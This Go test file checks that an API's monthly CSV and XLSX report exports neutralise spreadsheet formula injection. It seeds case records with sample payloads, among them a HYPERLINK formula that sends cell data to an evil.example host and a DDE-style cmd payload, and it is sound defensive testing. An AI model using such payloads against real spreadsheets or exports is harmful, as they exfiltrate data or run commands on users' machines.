package api_test

import (
	"context"
	"encoding/csv"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"github.com/homeward/homeward/api"
	"github.com/homeward/homeward/codec"
	"github.com/homeward/homeward/config"
	"github.com/homeward/homeward/contract"
	"github.com/homeward/homeward/store"
	"github.com/homeward/homeward/store/storetest"
)

// A value that reaches the statistics' CSV (a country, a programme, a currency)
// and begins like a formula is opened by a spreadsheet as text, not run.
func TestCSVDownloadsNeutraliseFormulas(t *testing.T) {
	cfg, err := config.Load("", func(string) string { return "" })
	require.NoError(t, err)
	cfg.Auth.Tokens = []config.Token{{Token: "t-manager", User: "manager", Role: "manager", Office: "*"}}
	st := storetest.Open(t, "sqlite")
	now := time.Now().UTC()
	// The case file normally holds only validated codes; these stand for whatever
	// got in some other way (an import, a future free-text column).
	evil := []struct{ country, programme, currency string }{
		{`=HYPERLINK("https://evil.example/?"&A1,"click")`, "+cmd|' /C calc'!A0", "@SUM(1+1)"},
		{"-2+3", "\t=1+1", "\r=1+1"},
	}
	for _, e := range evil {
		id := uuid.NewString()
		cs := &store.Case{ID: id, Status: "active", Stage: "Travel", StageEnteredAt: now, HostCountry: "DE",
			CountryOfReturn: e.country, SendingOffice: "DE-BER", ReceivingOffice: "GN-CKY", Programme: e.programme,
			Beneficiary: "{}", Household: "[]", Vulnerabilities: "[]", Consent: "{}", State: "{}", Currency: e.currency,
			ServiceChargeCents: 15000, CreatedBy: "caseworker-de", WorkflowID: contract.WorkflowID(id), CreatedAt: now,
			UpdatedAt: now}
		require.NoError(t, st.CreateCase(context.Background(), cs, nil,
			func(context.Context, *store.Case) (string, error) { return "run-1", nil }))
		sys := contract.Actor{User: "homeward", Role: "system"}
		require.NoError(t, st.RecordChanges(context.Background(), contract.Changes{CaseID: id, WrittenIn: 1,
			State: contract.CaseState{Seq: 2, Stage: contract.StageArrival, Status: contract.StatusActive},
			Events: []contract.Event{{Key: id + "/1", Type: "registered", Actor: sys, At: now},
				{Key: id + "/2", Type: "departed", Actor: sys, At: now}}}))
	}
	h := api.New(slog.New(slog.NewTextHandler(io.Discard, nil)), cfg, st, nil, codec.GenerateKeyRing()).Handler()
	req := httptest.NewRequest("GET", "/api/v1/reports/monthly?month="+now.Format("2006-01"), nil)
	req.Header.Set("Authorization", "Bearer t-manager")
	req.Header.Set("Accept", "text/csv")
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, req)
	require.Equal(t, http.StatusOK, rec.Code, rec.Body.String())

	rows, err := csv.NewReader(strings.NewReader(rec.Body.String())).ReadAll()
	require.NoError(t, err)
	var neutralised int
	for _, row := range rows {
		for _, cell := range row {
			if cell == "" {
				continue
			}
			require.NotContains(t, "=+-@\t\r", cell[:1], "a cell a spreadsheet would run: %q", cell)
			if strings.HasPrefix(cell, "'") {
				neutralised++
			}
		}
	}
	require.GreaterOrEqual(t, neutralised, 6, "each formula-like value is kept, behind an apostrophe:\n%s", rec.Body.String())
	require.Contains(t, rec.Body.String(), `'=HYPERLINK(`)

	// The workbook keeps the same values as text, never as formulas.
	req.Header.Set("Accept", api.XLSXType)
	rec = httptest.NewRecorder()
	h.ServeHTTP(rec, req)
	require.Equal(t, http.StatusOK, rec.Code)
	f, err := excelize.OpenReader(rec.Body)
	require.NoError(t, err)
	defer func() { _ = f.Close() }()
	var seen int
	for _, sheet := range []string{"Activity", "Money"} {
		rows, err := f.GetRows(sheet)
		require.NoError(t, err)
		for r, row := range rows {
			for c := range row {
				cell, err := excelize.CoordinatesToCellName(c+1, r+1)
				require.NoError(t, err)
				formula, err := f.GetCellFormula(sheet, cell)
				require.NoError(t, err)
				require.Empty(t, formula, "%s!%s", sheet, cell)
				if strings.HasPrefix(row[c], "=HYPERLINK(") {
					seen++
				}
			}
		}
	}
	require.Positive(t, seen, "the value is kept, as text")
}
